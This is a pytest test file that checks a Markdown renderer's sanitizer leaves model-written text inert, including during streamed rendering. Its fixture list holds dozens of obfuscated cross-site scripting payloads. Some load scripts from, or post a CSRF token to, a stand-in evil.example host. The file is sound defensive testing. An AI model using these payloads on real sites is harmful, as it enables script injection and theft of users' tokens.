"""Whatever a model writes, a real HTML parser finds nothing in it that could act."""

import pytest
from bs4 import BeautifulSoup, Comment

from panels.markdown import LiveMarkdown, render, render_synthesis
from panels.markdown.sanitizing import sanitize

ALLOWED_ATTRIBUTES = {
    "href",
    "rel",
    "target",
    "title",
    "class",
    "data-critique",
    "start",
    "tabindex",
}
ALLOWED_TAGS = {
    "a", "blockquote", "br", "code", "del", "div", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol",
    "p", "pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
SAFE_STARTS = ("http://", "https://", "mailto:", "#critique-")

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<p style='position:fixed'>x</p>",
    "<base href=//evil.example/><meta http-equiv=refresh content=0>",
    "<form action=//evil.example><input name=csrfmiddlewaretoken></form>",
    "<!-- --><script>alert(1)</script>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](data:image/png;base64,AAAA)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.b/c)",
    "[x](//evil.example)",
    "[x](/runs/delete)",
    "[x](?next=//evil)",
    "[x](#critique-3)",
    "[x](https://a.b 'y\" onmouseover=\"alert(1)')",
    '[x](https://a.b/"onmouseover=alert(1))',
    "[x](https://a.b/'><script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '!["onerror=alert(1) x="](https://evil.example/pixel.png)',
    "![<script>alert(1)</script>](https://evil.example/p.png)",
    "[![x](data:image/gif;base64,R0)](javascript:alert(1))",
    "[x]: javascript:alert(1)\n[x]",
    "[x]: https://a.b 'onload=alert(1)'\n![x]",
    '```"><script>alert(1)</script>\ncode\n```',
    "```html\n<script>alert(1)</script>\n```",
    '~~~x" onmouseover="alert(1)\ncode\n~~~',
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "| [x](javascript:alert(1)) |\n|:-:|\n| ![x](javascript:1) |",
    "# <script>alert(1)</script>",
    "> - 1. <script>alert(1)</script>",
    "<details open ontoggle=alert(1)>\n\n# x",
    "<div id=critique-3 class=cite>\n\n**x**\n\n</div>",
    "[C3](javascript:alert(1)) [C3]",
    '[C3"><script>alert(1)</script>]',
    "**<script>**alert(1)**</script>**",
    "<scri\0pt>alert(1)</scri\0pt>",
    "\u202e<script>\u202calert(1)</script>",
    "<x-hx hx-get=/runs hx-trigger=load>",
]


def assert_inert(html):
    soup = BeautifulSoup(html, "html.parser")
    assert not soup.find_all(string=lambda string: isinstance(string, Comment))
    for tag in soup.find_all(True):
        assert tag.name in ALLOWED_TAGS
        assert set(tag.attrs) <= ALLOWED_ATTRIBUTES
        if tag.name == "a":
            assert_inert_link(tag)


def assert_inert_link(link):
    address = link["href"]
    assert address.startswith(SAFE_STARTS)
    if address.startswith("#"):
        assert set(link.attrs) == {"href", "class", "data-critique"}
    else:
        assert link["rel"] == ["noopener", "noreferrer", "nofollow"]
        assert link["target"] == "_blank"


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_markdown_is_inert(hostile):
    assert_inert(render(hostile))
    assert_inert(render_synthesis(hostile, {3}))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_markdown_is_inert_at_every_moment_of_a_stream(hostile):
    live = LiveMarkdown()
    for character in hostile:
        blocks, tail_html = live.append(character)
        assert_inert("".join([*blocks, tail_html]))
    assert_inert("".join(live.finish()))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_the_gate_alone_keeps_html_inert(hostile):
    soup = BeautifulSoup(sanitize(hostile), "html.parser")
    assert {tag.name for tag in soup.find_all(True)} <= ALLOWED_TAGS
    assert {name for tag in soup.find_all(True) for name in tag.attrs} <= ALLOWED_ATTRIBUTES


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        ('<a href="javascript:alert(1)">x</a>', "<a>x</a>"),
        ('<a href="/x" target="top" rel="opener">x</a>', "<a>x</a>"),
        ('<a href="#critique-3x" class="cite big">x</a>', "<a>x</a>"),
        ('<div class="table-wrap evil" tabindex="5" id="x">x</div>', "<div>x</div>"),
        ('<span class="btn-primary">x</span>', "<span>x</span>"),
        ('<td style="color:red">x', "x"),
        ("<h1>x</h1>", "x"),
    ],
)
def test_the_gate_drops_values_that_our_renderer_does_not_write(html, kept):
    assert sanitize(html) == kept
